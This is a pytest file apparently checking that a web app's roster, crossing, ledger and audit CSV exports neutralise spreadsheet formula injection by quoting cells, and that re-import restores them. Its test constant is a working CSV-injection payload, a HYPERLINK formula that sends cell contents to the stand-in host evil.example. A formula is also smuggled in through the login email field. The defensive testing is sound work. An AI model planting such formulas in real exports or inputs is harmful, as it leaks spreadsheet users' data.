"""Exports carry no formula (#15, finding 5): a cell of user text that starts with `=`, `+`,
`-`, `@`, a tab or a carriage return is written behind a single quote in the roster, crossing,
ledger and audit CSVs (the audit one needing no account: the formula is typed as the login
email); a number the app writes, a negative quantity too, stays a number."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from office.auth.permissions import Role
from office.exports import FORMULA_START, inert, restore, writer
from office.staffing import services as staffing
from office.waivers import ledger
from tests.conftest import log_in
from tests.factories import NOW, draw, make_person, make_resource, make_user, make_waiver, stay
from tests.jobs import fetched

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).removeprefix("\ufeff"))))


def cells(table: list[list[str]]) -> list[str]:
    return [cell for row in table for cell in row]


def computes(cell: str) -> bool:
    """Whether a spreadsheet would read `cell` as a formula (a plain number is a number)."""
    return cell.startswith(FORMULA_START) and not re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", cell)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+82 10", "'+82 10"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Kim", "Kim"),
        ("", ""),
        ("-12.5", "-12.5"),  # a number the app wrote as text
        (Decimal("-300"), Decimal("-300")),
        (-3, -3),
        (None, None),
        (date(2018, 10, 3), date(2018, 10, 3)),
    ],
)
def test_a_cell_that_would_compute_is_made_text_and_a_number_stays_a_number(value, written):
    assert inert(value) == written


@given(st.text())
def test_what_is_made_inert_reads_back_as_it_was(text):
    assert restore(inert(text)) == text
    assert not computes(inert(text))


def test_the_writer_makes_every_cell_inert():
    out = io.StringIO()
    writer(out).writerow([FORMULA, Decimal("-1.5"), "x"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + FORMULA, "-1.5", "x"]


@pytest.fixture
def admin(session):
    return make_user(session, Role.ADMIN, superuser=True)


def test_the_roster_export_holds_no_formula_and_reads_back_in(client, session, admin):
    person = make_person(session, name="=1+1")
    person.name_latin, person.agency = FORMULA, "@agency"
    session.commit()
    log_in(client, admin)

    table = rows(client.get("/staffing/people/export.csv"))

    assert table[1][:2] == ["'=1+1", "'" + FORMULA] and table[1][4] == "'@agency"
    assert not any(computes(cell) for cell in cells(table))
    # The export is also the import's template: the quote goes away on the way back in.
    exported = staffing.export_roster(session)
    session.delete(person)
    session.flush()
    (again,) = staffing.import_roster(session, exported.encode(), actor=None, now=NOW)
    assert (again.name_ko, again.name_latin, again.agency) == ("=1+1", FORMULA, "@agency")


def test_the_crossing_list_holds_no_formula(client, session, admin):
    person = make_person(session, name="-1+1")
    person.name_latin = FORMULA
    session.commit()
    stay(session, person, date(2018, 10, 2), date(2018, 10, 9))
    log_in(client, admin)

    table = rows(client.get("/staffing/crossings/2018-10-02.csv"))

    assert table[1][2:4] == ["'-1+1", "'" + FORMULA]
    assert not any(computes(cell) for cell in cells(table))


def test_the_ledger_export_holds_no_formula_and_keeps_negative_quantities(client, session, admin):
    diesel = make_resource(session)
    line = make_waiver(session, [(diesel, diesel.unit, "100", "100")]).lines[0]
    entry = draw(
        session, diesel, "300", line=line, on=date(2018, 10, 3), actor=admin, override=FORMULA
    )
    ledger.reverse_entry(session, entry, reason="+" + FORMULA, actor=admin, now=NOW)
    session.commit()
    log_in(client, admin)

    header, *entries = rows(fetched(client, "/ledger/export.csv"))

    by_column = [dict(zip(header, row, strict=True)) for row in entries]
    reversal = next(row for row in by_column if row["reverses_id"])
    original = next(row for row in by_column if not row["reverses_id"])
    assert original["override_reason"] == "'" + FORMULA
    assert reversal["reversal_reason"] == "'+" + FORMULA
    assert reversal["quantity"] == "-300" and reversal["base_quantity"] == "-300"
    assert not any(computes(cell) for row in entries for cell in row)


def test_a_formula_typed_as_the_login_email_is_inert_in_the_audit_export(client, session, admin):
    typed = "=1+2@evil.example"
    stranger = client.application.test_client()
    assert stranger.post("/login", data={"email": typed, "password": "a-wrong-one"}).status_code
    log_in(client, admin)

    table = rows(fetched(client, "/audit/export.csv"))

    assert any(cell == "'" + typed for cell in cells(table))
    assert not any(computes(cell) for cell in cells(table))
